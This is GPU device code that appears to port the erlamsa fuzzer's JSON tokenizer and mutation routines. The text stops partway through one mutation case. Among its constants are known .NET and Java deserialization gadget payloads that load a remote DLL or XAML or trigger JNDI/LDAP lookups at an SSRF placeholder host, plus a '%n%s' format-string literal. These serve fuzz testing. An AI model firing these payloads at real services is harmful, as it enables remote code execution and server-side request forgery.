// eh_json.h — device code for erlamsa_json:json_mutate/2 (erlamsa_json.erl:710-731): tokenizer (:83-188),
// count/walk/select (:286-472), folder (:235-270) and the mutations (:538-708).
//
//  * tokenize/1 is the reference's context-stack machine (ws/value/array/elements/object/members/pair/push),
//    kept literally — the stack of context atoms lives in a 64-bit register, 4 bits per atom, spilling to the
//    work area — because its corner cases are results: an unterminated container yields NO tokens (and the
//    mutator then turns the block into <<>>), a missing ':' only fails when the machine later throws.
//    Scanning is event driven (class masks, eh_mask.h): strings, numbers and white space are hops.
//  * Whenever tokenize/1 succeeds the tokens form a regular tree (object members are pairs, a pair's key is
//    any value), so nodes are stored in pre-order — which IS the `all` numbering of walk/4 — with the piece
//    range of their fold_ast/2 rendering; the `pairs`/`values` numbering skips key subtrees.
//  * Mutations are edit scripts over piece ranges; where walk/4 leaves a list of more than one element in a
//    pair value or at top level, fold_ast/2 prints it bracketed ("[x,x]"), inside a container it is comma
//    joined.
#pragma once
#include "eh_doc.h"

namespace eh {

enum { JC_WS, JC_LB, JC_RB, JC_LC, JC_RC, JC_COMMA, JC_COLON, JC_QUOTE, JC_T, JC_F, JC_N, JC_K };
struct JsCls {
  EH_DEV uint32_t operator()(uint32_t b) const {
    return ((b == ' ' || b == '\n' || b == '\r' || b == '\t') ? 1u : 0u) | (b == '[' ? 2u : 0u) | (b == ']' ? 4u : 0u) | (b == '{' ? 8u : 0u) | (b == '}' ? 16u : 0u) |
           (b == ',' ? 32u : 0u) | (b == ':' ? 64u : 0u) | (b == '"' ? 128u : 0u) | (b == 't' ? 256u : 0u) | (b == 'f' ? 512u : 0u) | (b == 'n' ? 1024u : 0u);
  }
};
struct JsWin { MaskWin<JC_K> w; uint64_t sep, nws; };
EH_DEV void js_load(JsWin& x, uint32_t base) {
  mw_load(x.w, base, JsCls());
  x.sep = x.w.m[JC_WS] | x.w.m[JC_COMMA] | x.w.m[JC_RB] | x.w.m[JC_RC] | x.w.m[JC_COLON];   // ?NOT_SEPARATOR :46-47
  x.nws = ~x.w.m[JC_WS] & x.w.inrange;
}

// literal pool: structure characters, constants, the replacements of mutate_null/2 (:641-643)
__constant__ uint8_t c_jslit[64] = {'{', '}', '[', ']', ',', ':', '"', 't', 'r', 'u', 'e', 'f', 'a', 'l', 's', 'e', 'n', 'u', 'l', 'l', '-', '1',
                                    '1', '0', '0', '0', '0', '0', '0', '0', '0', '0', '"', '%', 'n', '%', 's', '"', '"', 'A', 'A', 'A', 'A', 'A', 'A', 'A', 'A', 'A', 'A', 'A', 'A', '"', '0'};
enum { JL_LC = 0, JL_RC = 1, JL_LB = 2, JL_RB = 3, JL_COMMA = 4, JL_COLON = 5, JL_QUOTE = 6, JL_TRUE = 7, JL_FALSE = 11, JL_NULL = 16, JL_M1 = 20, JL_1E9 = 22, JL_FMT = 32, JL_AAA = 38, JL_ZERO = 52 };
EH_DEV cbptr jslit(int k) { return (cbptr)&c_jslit[k]; }   // (constant data is global memory)

enum { J_OBJ = 1, J_ARR = 2, J_PAIR = 3, J_STR = 4, J_JUNK = 5, J_NUM = 6, J_CONST = 7 };
enum { JX_TOP = 0, JX_MEMBER = 1, JX_PAIRVAL = 2, JX_KEY = 3 };
// a/b: STR/JUNK content range, NUM text range; CONST: a = 0 true, 1 false, 2 null.  inkey: inside the key of a pair
struct JNode { uint32_t kind, p0, p1, nend, ctx, a, b, inkey; };

// json_unserialize_bugs/0 (:617-625); "~s" = get_ssrf_uri()
__constant__ char c_js_pay0[] = "{\"__type\":\"System.Windows.Application, PresentationFramework,Version=4.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35\",\"Resources\":{\"__type\":\"System.Windows.ResourceDictionary,PresentationFramework, Version=4.0.0.0, Culture=neutral,PublicKeyToken=31bf3856ad364e35\",\"Source\":\"http~sJsonDotNet/Xamlpayload\"}}";
__constant__ char c_js_pay1[] = "{\"$type\":\"System.Configuration.Install.AssemblyInstaller,System.Configuration.Install, Version=4.0.0.0, Culture=neutral,PublicKeyToken=b03f5f7f11d50a3a\",\"Path\":\"http~sJsonDotNet/RemoteLibrary.dll\"}";
__constant__ char c_js_pay2[] = "{\"$type\":\"System.Windows.Forms.BindingSource, System.Windows.Forms,Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089\",\"DataMember\":\"HelpText\",\"dataSource\":{\"$type\":\"System.Configuration.Install.AssemblyInstalle r, System.Configuration.Install, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b03f5f7f11d50a3a\",\"Path\":\"http~sJsonDotNet/RemoteLibrary.dll\"}}";
__constant__ char c_js_pay3[] = "{\"@class\":\"org.hibernate.jmx.StatisticsService\",\"sessionFactoryJNDIName\":\"ldap~suid=somename,ou=someou,dc=somedc\"}";
__constant__ char c_js_pay4[] = "{\"@class\":\"com.sun.rowset.JdbcRowSetImpl\", \"dataSourceName\":\"ldap:~suid=somename,ou=someou,dc=somed c\", \"autoCommit\":true}";
__constant__ char c_js_pay5[] = "{\"@class\":\" com.atomikos.icatch.jta.RemoteClientUserTransaction\", \"name_\":\"ldap~suid=somename,ou=someou,dc=somedc\", \"providerUrl_\":\"ldap~s\"}";

struct JsDoc { EH_G JNode* nd; EH_G Piece* pc; uint32_t nn, npc, have_top; };

// tokenize/1 :83-188.  0 ok (out->have_top says whether a token was produced); -1 incorrect_json; -2 a
// case_clause in ws/3 (the worker dies); -3 engine capacity.  build = false only runs the machine (no node or piece is
// recorded): on most blocks js fails within a token or two, and that verdict then costs one window load.
__device__ __noinline__ int json_tokenize(Ctx&, cbptr H, uint32_t L, JsDoc* out, bool build) {
  EH_CTX;
  const int l = EH_LANE;
  // capacity: every node and every structure piece needs one of these bytes, or starts the block
  uint32_t nsig = L;
  if (build) {
    nsig = 0;
    for (uint32_t i0 = 16u * (uint32_t)l; i0 < L; i0 += 1024) {
      uint32_t cnt = L - i0 < 16 ? L - i0 : 16;
      for (uint32_t k = 0; k < cnt; k++) { uint32_t x = H[i0 + k]; nsig += (x == '[' || x == ']' || x == '{' || x == '}' || x == ',' || x == ':' || x == '"' || x == ' ' || x == '\n' || x == '\r' || x == '\t'); }
    }
    nsig = wave_sum(nsig);
  }
  uint32_t cap_n = build ? 2 * nsig + 16 : 0xFFFFFFF0u;
  uint64_t cap_pc = build ? 4ull * cap_n + 16 : ~0ull;
  EH_G JNode* nd = nullptr; EH_G Piece* pc = nullptr; wptr nstk = nullptr;
  if (build) {
    nd = (EH_G JNode*)ws_alloc(c, (uint64_t)cap_n * sizeof(JNode));
    pc = (EH_G Piece*)ws_alloc(c, cap_pc * sizeof(Piece));
    nstk = (wptr)ws_alloc(c, (uint64_t)cap_n * 4 + 16);              // open container / pair nodes
    if (!nd || !pc || !nstk) return -3;
  }
  wptr cold = (wptr)ws_alloc(c, ((uint64_t)nsig / 2 + 16) * 4);  // spilled context atoms, 8 per word (<= 3 atoms per byte)
  if (!cold) return -3;
  uint32_t nn = 0, npc = 0, nns = 0, ncold = 0;

  enum { C_ARRAY = 1, C_ELEMENTS, C_OBJECT, C_MEMBERS, C_PAIR, C_PAIR_DELIM, C_VALUE, C_ARRAY_END, C_OBJECT_END, C_PAIR_END, C_PAIR_START };
  uint64_t hot = 0; uint32_t hcnt = 0;                                   // top of the context stack = low nibble
  auto cpush = [&](uint32_t code) {
    if (hcnt == 16) { if (l == 0) cold[ncold] = (uint32_t)(hot >> 32); ncold++; hot &= 0xFFFFFFFFull; hcnt = 8; }
    hot = (hot << 4) | code; hcnt++;
  };
  auto refill = [&]() { if (hcnt < 2 && ncold > 0) { wave_sync(); uint32_t w = uni(cold[--ncold]); hot |= (uint64_t)w << (4 * hcnt); hcnt += 8; } };
  auto cpop = [&]() { hot >>= 4; hcnt--; refill(); };
  auto ctop = [&]() -> uint32_t { return hcnt ? (uint32_t)(hot & 15) : 0u; };
  auto csecond = [&]() -> uint32_t { return hcnt > 1 ? (uint32_t)((hot >> 4) & 15) : 0u; };
  cpush(C_VALUE);

  JsWin x; x.w.p = H; x.w.L = L; x.w.valid = false; x.w.base = 0;
  uint32_t pos = 0;
  bool pushing = false, weird = false, have_top = false, mk = build;   // mk: nodes and pieces are being recorded
  uint32_t pv = 0, inkey_node = 0xFFFFFFFFu;
  int rc = 0;
  auto put = [&](cbptr p, uint32_t len) { piece_put(pc, npc, p, len); npc++; };
  auto value_ctx = [&]() -> uint32_t { uint32_t t = ctop(); return t == 0 ? (uint32_t)JX_TOP : (t == C_ELEMENTS ? (uint32_t)JX_MEMBER : (t == C_PAIR_DELIM ? (uint32_t)JX_KEY : (uint32_t)JX_PAIRVAL)); };
  auto new_node = [&](uint32_t kind, uint32_t ctx, uint32_t a, uint32_t b) -> uint32_t {
    uint32_t ik = (inkey_node != 0xFFFFFFFFu || ctx == JX_KEY) ? 1u : 0u;
    if (l == 0) { JNode n; n.kind = kind; n.p0 = npc; n.p1 = npc; n.nend = nn + 1; n.ctx = ctx; n.a = a; n.b = b; n.inkey = ik; nd[nn] = n; }
    return nn++;
  };
  auto close_node = [&](uint32_t i) { if (l == 0) { nd[i].p1 = npc; nd[i].nend = nn; } if (inkey_node == i) inkey_node = 0xFFFFFFFFu; };

  for (;;) {
    if (nn + 4 > cap_n || npc + 8 > cap_pc) { EH_SET_OVERFLOW(c, 401); return -3; }
    if (pushing) {                                                         // push/4 :157-169
      uint32_t t = ctop();
      if (t == 0) { have_top = true; pushing = false; continue; }          // push(Bin, [], Value, Acc)
      if (t == C_ELEMENTS || t == C_MEMBERS) { pushing = false; continue; }
      if (t == C_PAIR_DELIM) { cpop(); cpush(C_PAIR_START); cpush(C_PAIR_DELIM); pushing = false; continue; }
      if (t == C_PAIR_END && csecond() == C_PAIR_START) {                  // {pair, Key, Value} is pushed in turn
        cpop(); cpop();
        if (mk && nns > 0) { wave_sync(); uint32_t pi = uni(nstk[--nns]); close_node(pi); pv = pi; }
        continue;
      }
      rc = -1; break;                                                      // push(_, _, _, _) -> throw(incorrect_json)
    }
    // ws/3 :86-102
    bool eof = false;
    for (;;) {
      if (pos >= L) { eof = true; break; }
      if (!x.w.valid || pos < x.w.base || pos >= x.w.base + MW_STEP) js_load(x, pos & ~63u);
      uint32_t r = mw_next(x.nws, pos - x.w.base);
      if (r >= MW_STEP) { pos = x.w.base + MW_STEP; continue; }
      pos = x.w.base + r; break;
    }
    if (eof) break;                                                        // ws(<<>>, _, Acc) -> Acc: open containers are dropped
    uint32_t term = ctop();
    if (term == 0) { rc = -1; break; }                                     // ws(_, _, _) -> throw
    const uint32_t rel = pos - x.w.base;
    auto is = [&](int cls) -> bool { return mw_test(x.w.m[cls], rel); };
    switch (term) {
      case C_ARRAY:                                                        // array/3 :120-124
        cpop(); cpush(C_ARRAY_END);
        if (is(JC_RB)) { pos++; cpop(); if (mk) { put(H + pos - 1, 1); wave_sync(); uint32_t ni = uni(nstk[--nns]); close_node(ni); pv = ni; } pushing = true; }
        else { cpush(C_ELEMENTS); cpush(C_VALUE); }
        break;
      case C_ELEMENTS:                                                     // elements/4 :126-132
        cpop();
        if (is(JC_RB) && ctop() == C_ARRAY_END) { pos++; cpop(); if (mk) { put(H + pos - 1, 1); wave_sync(); uint32_t ni = uni(nstk[--nns]); close_node(ni); pv = ni; } pushing = true; }
        else if (is(JC_COMMA)) { pos++; if (mk) put(H + pos - 1, 1); cpush(C_ELEMENTS); cpush(C_VALUE); }
        else rc = -1;
        break;
      case C_OBJECT:                                                       // object/3 :135-139
        cpop(); cpush(C_OBJECT_END);
        if (is(JC_RC)) { pos++; cpop(); if (mk) { put(H + pos - 1, 1); wave_sync(); uint32_t ni = uni(nstk[--nns]); close_node(ni); pv = ni; } pushing = true; }
        else { cpush(C_MEMBERS); cpush(C_PAIR); }
        break;
      case C_MEMBERS:                                                      // members/4 :141-147
        cpop();
        if (is(JC_RC) && ctop() == C_OBJECT_END) { pos++; cpop(); if (mk) { put(H + pos - 1, 1); wave_sync(); uint32_t ni = uni(nstk[--nns]); close_node(ni); pv = ni; } pushing = true; }
        else if (is(JC_COMMA)) { pos++; if (mk) put(H + pos - 1, 1); cpush(C_MEMBERS); cpush(C_PAIR); }
        else rc = -1;
        break;
      case C_PAIR:                                                         // pair/3 :149-154 called with RestContext
        cpop();
        if (is(JC_COLON) && ctop() == C_PAIR_DELIM) { pos++; cpop(); cpush(C_PAIR_END); cpush(C_VALUE); weird = true; mk = false; }
        else {
          if (mk) { uint32_t pi = new_node(J_PAIR, JX_MEMBER, 0, 0); if (l == 0) nstk[nns] = pi; nns++; }
          cpush(C_PAIR_DELIM); cpush(C_VALUE);
        }
        break;
      case C_PAIR_DELIM:                                                   // pair/3 called with the whole Context
        if (is(JC_COLON)) { pos++; cpop(); cpush(C_PAIR_END); cpush(C_VALUE); if (mk) put(H + pos - 1, 1); }
        else { cpush(C_PAIR_DELIM); cpush(C_VALUE); weird = true; mk = false; }        // ends in a throw or at the end of the block, never in a token
        break;
      case C_VALUE: {                                                      // value/3 :104-117
        cpop();
        uint32_t ctx = value_ctx();
        if (is(JC_LB) || is(JC_LC)) {
          bool arr = is(JC_LB);
          if (mk) {
            uint32_t ni = new_node(arr ? J_ARR : J_OBJ, ctx, 0, 0);
            if (ctx == JX_KEY && inkey_node == 0xFFFFFFFFu) inkey_node = ni;
            if (l == 0) nstk[nns] = ni;
            nns++;
            put(H + pos, 1);
          }
          pos++; cpush(arr ? C_ARRAY : C_OBJECT);
          break;
        }
        // true / false / null need the bytes themselves
        uint32_t cst = 3;
        if (is(JC_T) || is(JC_F) || is(JC_N)) {
          uint32_t idx = pos + (uint32_t)l;
          uint32_t ch = (l < 5 && idx < L) ? H[idx] : 0;
          const char* w = is(JC_T) ? "true" : (is(JC_F) ? "false" : "null");
          uint32_t wl = is(JC_F) ? 5u : 4u;
          bool ok = (uint32_t)l >= wl || ch == (uint32_t)(uint8_t)w[l < 5 ? l : 0];
          if (__ballot(!ok) == 0) cst = is(JC_T) ? 0u : (is(JC_F) ? 1u : 2u);
        }
        if (cst < 3) {
          uint32_t wl = cst == 1 ? 5u : 4u;
          if (mk) { pv = new_node(J_CONST, ctx, cst, 0); put(H + pos, wl); close_node(pv); }
          pos += wl; pushing = true;
          break;
        }
        if (is(JC_QUOTE)) {                                                // string/4 :174-179
          uint32_t q = pos + 1; bool found = false;
          for (;;) {
            if (q >= L) break;
            if (!x.w.valid || q < x.w.base || q >= x.w.base + MW_STEP) js_load(x, q & ~63u);
            uint32_t r = mw_next(x.w.m[JC_QUOTE], q - x.w.base);
            if (r >= MW_STEP) { q = x.w.base + MW_STEP; continue; }
            q = x.w.base + r; found = true; break;
          }
          if (found) {
            if (mk) { pv = new_node(J_STR, ctx, pos + 1, q); put(H + pos, 1); put(H + pos + 1, q - pos - 1); put(H + q, 1); close_node(pv); }
            pos = q + 1;
          } else {                                                         // {junkstring, Str ++ "\""} printed between quotes
            if (mk) { pv = new_node(J_JUNK, ctx, pos + 1, L); put(H + pos, 1); put(H + pos + 1, L - pos - 1); put(jslit(JL_QUOTE), 1); put(jslit(JL_QUOTE), 1); close_node(pv); }
            pos = L;
          }
          pushing = true;
          break;
        }
        // number/3, number_rest/4 :181-188
        if (mw_test(x.sep, rel)) { rc = -1; break; }
        uint32_t q = pos;
        for (;;) {
          if (q >= L) { q = L; break; }
          if (!x.w.valid || q < x.w.base || q >= x.w.base + MW_STEP) js_load(x, q & ~63u);
          uint32_t r = mw_next(x.sep, q - x.w.base);
          if (r >= MW_STEP) { q = x.w.base + MW_STEP; continue; }
          q = x.w.base + r; break;
        }
        if (mk) { pv = new_node(J_NUM, ctx, pos, q); put(H + pos, q - pos); close_node(pv); }
        pos = q; pushing = true;
        break;
      }
      default: rc = -2; break;                                             // case_clause in ws/3
    }
    if (rc != 0) break;
  }
  wave_sync();
  if (rc != 0) return rc;
  if (weird && have_top) { c.status = CASE_UNSUPPORTED; return -3; }       // cannot happen (see C_PAIR_DELIM); never guess
  if (l == 0) { out->nd = nd; out->pc = pc; out->nn = have_top && build ? nn : 0; out->npc = have_top && build ? npc : 0; out->have_top = have_top ? 1u : 0u; }
  wave_sync();
  return 0;
}

// index of the k-th (0-based) node for which pred holds; nn if none
template <class P>
EH_DEV uint32_t js_find(const EH_G JNode* nd, uint32_t nn, uint32_t k, P pred) {
  uint32_t before = 0;
  for (uint32_t base = 0; base < nn; base += 64) {
    uint32_t i = base + (uint32_t)EH_LANE;
    bool f = false;
    if (i < nn) { JNode n = nd[i]; f = pred(n); }
    unsigned long long m = __ballot(f);
    uint32_t cnt = (uint32_t)__popcll(m);
    if (k < before + cnt) { uint32_t r = k - before; for (uint32_t t = 0; t < r; t++) m &= m - 1; return base + (uint32_t)__builtin_ctzll(m); }
    before += cnt;
  }
  return nn;
}
struct JR { uint32_t i, p0, p1, nend, ctx, kind; };
EH_DEV JR js_node(const EH_G JNode* nd, uint32_t i) { JNode n = nd[i]; JR r; r.i = i; r.p0 = uni(n.p0); r.p1 = uni(n.p1); r.nend = uni(n.nend); r.ctx = uni(n.ctx); r.kind = uni(n.kind); return r; }

// the end of json_mutate/2: NewBinStr = fold_ast(..) :720 and its comparison with the block
EH_DEV int json_finish(Ctx& c, cbptr H, uint32_t L, EH_G Piece* out, uint32_t nout, int D, uint32_t meta0) {
  nout = pieces_coalesce(out, nout);
  uint64_t total = pieces_total(out, nout);
  if (total > 0xFFFFFFF0ull) { EH_SET_OVERFLOW(c, 402); return 0; }
  bptr dst = ws_alloc(c, total ? total : 16);
  if (!dst) return 0;
  wave_gather(dst, out, nout);
  wave_sync();
  if ((uint32_t)total == L && wave_equal(dst, H, L)) { tr_drop_before(c, meta0); return -1; }   // NewBinStr =:= H: {fun json_mutate/2, Ll, NewMeta, -1} :722-723 - NewMeta ALONE
  c.r_kind = R_NEW; c.r_ptr = dst; c.r_len = (uint32_t)total; c.r_changed = 1;
  return D + (int)(total / (AVG_BLOCK_SIZE * 10));
}

// inner text / basic types :671-706: one draw per string / key / null / bool / number node; a string that is drawn gets a nested
// scheduler call (mutate_innertext_prob/4 :633-639) - asked of the scheduler like sgml_inner asks (eh_sgml.h): the node's number is
// left in the MuFrame, and the walk goes on behind it when the function is called again.  v[0..7]: what json_mutate had in hand.
__device__ __noinline__ int json_inner(Ctx&, cbptr H, uint32_t L) {
  EH_CTX;
  const int l = EH_LANE;
  EH_G MuFrame* mu = c.mu;
  bool resume = c.mu_phase == 1;
  EH_G JNode* nd = (EH_G JNode*)uni64(mu->v[0]); EH_G Piece* out = (EH_G Piece*)uni64(mu->v[2]);
  const uint32_t nn = uni((uint32_t)mu->v[1]), nout = uni((uint32_t)mu->v[3]), N = uni((uint32_t)mu->v[4]), meta0 = uni((uint32_t)mu->v[6]);
  const int D = (int)uni((uint32_t)mu->v[5]), nfs = (int)uni((uint32_t)mu->v[7]);
  uint32_t i = uni((uint32_t)mu->v[8]);
  {
      const double dN = (double)N;
      for (; i < nn; i++) {
        JNode n = nd[i];
        uint32_t kind = uni(n.kind), p0 = uni(n.p0), ctx = uni(n.ctx), a = uni(n.a), b = uni(n.b);
        if (kind == J_STR) {                                               // {key, String} 0.6/N ; {string, String} 3/N
          if (!resume) {
            double prob = ctx == JX_KEY ? 0.6 / dN : 3.0 / dN;
            double rnd = rng_uniform(c.rng);
            if (rnd > prob) continue;                                      // mutate_innertext_prob/4 :633-639
            if (l == 0) mu->v[8] = i;
            wave_sync();
            c.call_req = 1; c.call_bin = (uint64_t)(H + a); c.call_len = b - a; c.call_nfs = nfs;   // Muta([Bin], []): the scheduler runs it (eh_device.h mux_fuzzers)
            return 0;
          }
          resume = false;
          const int nres = c.call_nres;
          if (nres < 0) return 0;
          if (nres == 0) { c.status = CASE_CRASHED; return 0; }
          Blk rb = blk_load(c.bl, c.nb);
          wave_sync();
          if (l == 0) { out[p0 + 1].ptr = rb.ptr; out[p0 + 1].len = rb.len; }
        } else if (kind == J_CONST) {
          double rnd = rng_uniform(c.rng);
          if (rnd >= 3.0 / dN) continue;
          if (a == 2) {                                                    // mutate_null/2 :641-643
            uint32_t k = rng_rand(c.rng, 7);
            const int lk[7] = {JL_M1, JL_1E9, JL_TRUE, JL_LB, JL_FMT, JL_ZERO, JL_AAA};
            const uint32_t ll[7] = {2, 10, 4, 2, 6, 1, 14};
            int lit_k = JL_M1; uint32_t lit_l = 2;
#pragma unroll
            for (int q = 0; q < 7; q++) if ((uint32_t)q == k) { lit_k = lk[q]; lit_l = ll[q]; }
            wave_sync();
            if (l == 0) { out[p0].ptr = (uint64_t)jslit(lit_k); out[p0].len = lit_l; }
            tr_ai(c, AT_json_innertext, 1); tr_aa(c, AT_json_innertext, AT_null);      // [{json_innertext, null}, {json_innertext, 1} | InnerMeta] :686
          } else {                                                         // basic_type_mutation(Boolean, ..) :1212-1219
            tr_ai(c, AT_json_innertext, 1); tr_aa(c, AT_json_innertext, AT_bool);      // :691
            wave_sync();
            if (l == 0) { out[p0].ptr = (uint64_t)jslit(a == 0 ? JL_FALSE : JL_TRUE); out[p0].len = a == 0 ? 5u : 4u; }
          }
        } else if (kind == J_NUM) {                                        // list_to_integer/1 :694
          uint32_t s = a, ok = 0, neg = 0;
          uint32_t idx = a + (uint32_t)l;
          uint32_t c0 = a < b ? uni(H[a]) : 0;
          if (c0 == '+' || c0 == '-') { s = a + 1; neg = c0 == '-'; }
          // digits only, at least one
          bool bad = false;
          for (uint32_t q = s + (uint32_t)l; q < b; q += 64) { uint32_t ch = H[q]; bad |= !(ch >= 48 && ch <= 57); }
          (void)idx;
          ok = (s < b && __ballot(bad) == 0) ? 1u : 0u;
          if (!ok) continue;                                               // error:badarg -> unchanged, no draw
          double rnd = rng_uniform(c.rng);
          if (rnd >= 3.0 / dN) continue;
          bptr txt; uint32_t tlen;
          if (!num_core(c, H, L, s, b, neg != 0, &txt, &tlen)) return 0;
          // `case .. of Number -> El`: an unchanged value keeps its spelling
          uint32_t same = 0;
          if (l == 0) {
            uint32_t z = s; while (z + 1 < b && H[z] == 48) z++;            // canonical digits of the old value
            bool zero = (b - z == 1 && H[z] == 48);
            uint32_t ol = (neg && !zero ? 1u : 0u) + (b - z);
            if (ol == tlen) {
              same = 1; uint32_t o = 0;
              if (neg && !zero) { if (txt[0] != 45) same = 0; o = 1; }
              for (uint32_t q = z; q < b && same; q++, o++) if (txt[o] != H[q]) same = 0;
            }
          }
          if (uni((uint32_t)__shfl((int)same, 0))) continue;
          tr_ai(c, AT_json_innertext, 1); tr_aa(c, AT_json_innertext, AT_num);         // :698
          wave_sync();
          if (l == 0) { out[p0].ptr = (uint64_t)txt; out[p0].len = tlen; }
        }
      }
      wave_sync();
  }
  if (c.status != CASE_OK) return 0;
  wave_sync();
  return json_finish(c, H, L, out, nout, D, meta0);
}

__device__ __noinline__ int muta_json(Ctx&) {
  EH_CTX;
  const int l = EH_LANE;
  Blk hb = blk_load(c.bl, c.cur);
  cbptr H = (cbptr)hb.ptr; uint32_t L = hb.len;
  c.r_kind = R_SAME;
  if (c.mu_phase == 1) return json_inner(c, H, L);                         // back from a nested scheduler call of the inner-text walk
  JsDoc* dh = (JsDoc*)ws_alloc(c, sizeof(JsDoc));
  if (!dh) return 0;
  // Quick verdict for the common non-JSON block: a first token that is a "number" (any run of non-separators, :181-188),
  // something else after it -> ws/3 throws incorrect_json with the empty context (:86-102).  Two 64-byte probes.
  {
    uint32_t p0 = L, q0 = L;
    for (uint32_t base = 0; base < L && p0 == L; base += 64) {            // first non-blank byte
      uint32_t i = base + (uint32_t)l; uint32_t ch = i < L ? H[i] : 32u;
      unsigned long long m = __ballot(i < L && !(ch == ' ' || ch == '\n' || ch == '\r' || ch == '\t'));
      if (m) p0 = base + (uint32_t)__builtin_ctzll(m);
    }
    if (p0 < L) {
      uint32_t c0 = uni(H[p0]);
      if (c0 != '[' && c0 != '{' && c0 != '"' && c0 != 't' && c0 != 'f' && c0 != 'n') {
        if (c0 == ',' || c0 == ']' || c0 == '}' || c0 == ':') { tr_aa(c, AT_failed, AT_json); return -1; }  // number/3 throws at once: [{failed, json} | Meta] :730
        bool more = false;
        for (uint32_t base = p0; base < L && !more; base += 64) {         // end of the number, then anything but blanks?
          uint32_t i = base + (uint32_t)l; uint32_t ch = i < L ? H[i] : 0u;
          bool sep = ch == ' ' || ch == '\n' || ch == '\r' || ch == '\t' || ch == ',' || ch == ']' || ch == '}' || ch == ':';
          bool blank = ch == ' ' || ch == '\n' || ch == '\r' || ch == '\t';
          if (q0 == L) { unsigned long long sm = __ballot(i < L && sep); if (sm) q0 = base + (uint32_t)__builtin_ctzll(sm); }
          unsigned long long nb = __ballot(i < L && i >= q0 && !blank);
          if (q0 != L && nb) more = true;
        }
        if (more) { tr_aa(c, AT_failed, AT_json); return -1; }
      }
    }
  }
  uint64_t mark0 = c.ws_used;
  int rc = json_tokenize(c, H, L, dh, false);                              // verdict first, tables only for real documents
  if (rc == 0 && uni(dh->have_top)) { c.ws_used = mark0; rc = json_tokenize(c, H, L, dh, true); }
  if (rc == -1) { tr_aa(c, AT_failed, AT_json); return -1; }               // catch incorrect_json -> [{failed, json} | Meta] :729-730
  if (rc == -2) { c.status = CASE_CRASHED; return 0; }
  if (rc != 0) return 0;
  EH_G JNode* nd = (EH_G JNode*)uni64((uint64_t)dh->nd); EH_G Piece* pc = (EH_G Piece*)uni64((uint64_t)dh->pc);
  const uint32_t nn = uni(dh->nn), npc = uni(dh->npc);
  // {NV, NT, N} = count(Tokens) :408-417,717
  uint32_t nt_ = 0, nv_ = 0;
  for (uint32_t i = l; i < nn; i += 64) { JNode n = nd[i]; nt_ += (n.kind == J_OBJ || n.kind == J_ARR); nv_ += n.inkey ? 0u : 1u; }
  const uint32_t N = nn, NT = wave_sum(nt_), NV = wave_sum(nv_);
  uint32_t cap_out = 2 * npc + 64;
  EH_G Piece* out = (EH_G Piece*)ws_alloc(c, (uint64_t)cap_out * sizeof(Piece));
  if (!out) return 0;
  uint32_t nout = 0;
  auto all = [&](uint32_t a, uint32_t b) { pieces_append(out, &nout, pc, a, b); };
  auto lit = [&](int k, uint32_t len) { piece_put(out, nout, jslit(k), len); nout++; };
  auto valnode = [&](uint32_t R) -> JR {                                   // select_elem(values, Ast, R) :419-427
    uint32_t i = js_find(nd, nn, R - 1, [](const JNode& n) { return n.inkey == 0; });
    return js_node(nd, i);
  };
  auto listy = [&](uint32_t ctx) { return ctx == JX_MEMBER; };              // comma joined; otherwise the list is printed with brackets
  bool raw = false; bptr rawp = nullptr; uint32_t rawl = 0;            // json_unserialize result (a binary)
  int D = 1;
  uint32_t r;
  bool failed = false;
  const uint32_t meta0 = c.ntrace;                                         // NewMeta = what json_mutation/2 adds from here on
  if (NT == 0 && N < 2) {                                                  // json_mutation/2 :646-650
    uint32_t e7 = rng_erand(c.rng, 7);
    if (e7 == 4 && N == 1) r = rng_rand(c.rng, 8); else { failed = true; r = 99; D = -1; tr_aa(c, AT_failed, AT_json); }   // {[{failed, json}], Ast, -1}
  } else r = rng_rand(c.rng, 21);
  if (!failed) {                                                           // {[{json_swap, 1}], Res, 1} ... :655-670; the inner-text walk: [Meta, {json_innertext, 1}] :706
    const int ja = r == 0 ? AT_json_swap : r == 1 ? AT_json_dup : r == 2 ? AT_json_pump : r == 3 ? AT_json_repeat : r == 4 ? AT_json_insert : r == 5 ? AT_json_unserialize : AT_json_innertext;
    tr_ai(c, ja, 1);
  }
  if (failed) all(0, npc);
  else switch (r) {
    case 0: {                                                              // json_swap :581-594
      uint32_t R1 = rng_erand(c.rng, NV), R2 = rng_erand(c.rng, NV);
      if (NV == 0) { c.status = CASE_CRASHED; return 0; }
      JR a = valnode(R1), b = valnode(R2);
      if (R1 == R2) all(0, npc);
      else if (b.i > a.i && b.i < a.nend) { all(0, a.p0); all(b.p0, b.p1); all(a.p1, npc); }
      else if (a.i > b.i && a.i < b.nend) { all(0, b.p0); all(a.p0, a.p1); all(b.p1, npc); }
      else if (a.i < b.i) { all(0, a.p0); all(b.p0, b.p1); all(a.p1, b.p0); all(a.p0, a.p1); all(b.p1, npc); }
      else { all(0, b.p0); all(a.p0, a.p1); all(b.p1, a.p0); all(b.p0, b.p1); all(a.p1, npc); }
      break;
    }
    case 1: case 3: {                                                      // json_dup :573-575, json_repeat :577-579
      uint32_t R = rng_erand(c.rng, NV);
      uint32_t times = r == 1 ? 1u : rng_erand(c.rng, 100);
      if (NV == 0) { all(0, npc); break; }                                 // no element has index 0
      JR a = valnode(R);
      bool ls = listy(a.ctx);
      all(0, a.p0);
      if (!ls) lit(JL_LB, 1);
      all(a.p0, a.p1);
      // ("," X) x times
      if (times <= 2) { for (uint32_t k = 0; k < times; k++) { lit(JL_COMMA, 1); all(a.p0, a.p1); } }
      else {
        uint32_t tmp0 = nout;
        lit(JL_COMMA, 1); all(a.p0, a.p1);
        bptr m; uint32_t ml;
        if (!pieces_materialize(c, out, tmp0, nout, &m, &ml)) return 0;
        nout = tmp0;
        piece_put(out, nout, m, ml, times); nout++;
      }
      if (!ls) lit(JL_RB, 1);
      all(a.p1, npc);
      break;
    }
    case 2: {                                                              // json_pump :553-571, PumpCnt = 2
      D = -2;
      if (NT == 0) { all(0, npc); break; }
      uint32_t R = rng_erand(c.rng, NT);
      JR st = js_node(nd, js_find(nd, nn, R - 1, [](const JNode& n) { return n.kind == J_OBJ || n.kind == J_ARR; }));   // select_tag(all, ..)
      uint32_t sub = st.nend - st.i;                                       // count([Start])
      uint32_t E = rng_erand(c.rng, sub - 1) + 1;
      all(0, st.p0);
      if (E == 1) all(st.p0, st.p1);
      else {
        JR xr = js_node(nd, st.i + E - 1);
        bptr ma, mb; uint32_t la, lb;
